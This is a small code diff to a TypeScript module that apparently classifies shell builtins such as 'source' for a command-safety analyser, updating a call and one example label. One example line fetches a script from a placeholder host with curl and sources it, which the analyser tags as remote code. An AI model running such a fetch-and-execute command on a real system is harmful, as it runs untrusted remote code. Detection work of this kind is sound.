@@ -14,7 +14,7 @@ const evaluated = (call: ProgramCall): void => {
 const sourced = (call: ProgramCall): void => {
   const [file] = call.operands
   if (file === undefined) return
-  call.runFile(file)
+  call.runFile(file, 'shell')
   const path = call.pathOf(file)
   if (path !== undefined && !path.startsWith('/dev/')) call.take('read', file)
 }
@@ -57,7 +57,7 @@ export const SHELL_BUILTINS: ReadonlyArray<ProgramRow> = [
     style: 'posix',
     run: sourced,
     examples: [
-      'source .venv/bin/activate => exec source, opaque project-code, fs.read .venv/bin/activate',
+      'source .venv/bin/activate => exec source, opaque unread-script, fs.read .venv/bin/activate',
       '. ~/.bashrc => exec ., opaque outside-code, fs.read ~/.bashrc',
       'source <(curl -s https://x.example/i) => net.fetch x.example, exec source, opaque remote-code',
     ],
